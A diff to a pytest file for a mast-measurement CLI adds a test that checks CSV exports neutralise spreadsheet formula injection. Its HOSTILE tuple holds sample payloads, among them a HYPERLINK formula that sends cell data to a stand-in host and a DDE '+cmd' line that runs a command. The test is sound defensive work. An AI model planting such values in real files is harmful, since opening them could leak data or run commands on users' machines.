@@ -17,7 +17,7 @@ from sqlalchemy.orm import Session
 
 from catenary.cli import cli
 from catenary.measurement.spans import SPAN_COLUMNS
-from catenary.storage.models import Mast, SpanMeasurement
+from catenary.storage.models import Alert, Mast, SpanMeasurement
 from catenary_reports.linear_events import MEASURES
 
 pytestmark = pytest.mark.slow
@@ -443,3 +443,50 @@ def test_repeatability_report_and_its_histogram(database: str, tmp_path: Path) -
         assert float(left["to_mm"]) - float(left["from_mm"]) == pytest.approx(0.05)
     message = one_line_error(report(database, "repeatability", "1", "-o", out))
     assert "reporter 'repeatability' takes 2 RUNs, not 1 (1)" in message
+
+
+# -- CSV for spreadsheets --------------------------------------------------------------------
+
+HOSTILE = (
+    '=HYPERLINK("http://x/?"&A1,"c")',  # a mast code holds 32 characters
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-x",
+    "\tM01",
+    "\rM02",
+)
+"""Mast names a spreadsheet would evaluate (OWASP's CSV injection)."""
+
+
+def test_every_csv_neutralises_what_a_spreadsheet_would_evaluate(
+    alerts: str, tmp_path: Path
+) -> None:
+    database = alerts
+    with Session(create_engine(database)) as session:
+        codes = sorted(session.scalars(select(Mast.code)))[: len(HOSTILE)]
+        for old, new in zip(codes, HOSTILE, strict=True):
+            session.execute(update(Mast).where(Mast.code == old).values(code=new))
+            for model in (SpanMeasurement, Alert):
+                session.execute(update(model).where(model.mast_from == old).values(mast_from=new))
+                session.execute(update(model).where(model.mast_to == old).values(mast_to=new))
+        session.commit()
+    written = {
+        "export": ("--db", database, "export", "1", "--what", "spans"),
+        "run": ("--db", database, "report", "run", "1"),
+        "maintenance": ("--db", database, "report", "maintenance"),
+        "linear-events": ("--db", database, "report", "linear-events", "--run", "1"),
+        "repeatability": ("--db", database, "report", "repeatability", "1", "2"),
+    }
+    for name, args in written.items():
+        out = tmp_path / f"{name}.csv"
+        result = invoke(*args, "-o", out)
+        assert result.exit_code == 0, result.output
+        with out.open(newline="") as handle:
+            rows = list(csv.DictReader(handle))
+        cells = {cell for row in rows for cell in row.values()}
+        named = {c for c in cells if c.lstrip("'") in HOSTILE}
+        if name != "repeatability":  # a histogram: numbers only
+            assert named and all(c.startswith("'") for c in named), (name, named)
+        for cell in cells:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # a number, never a formula
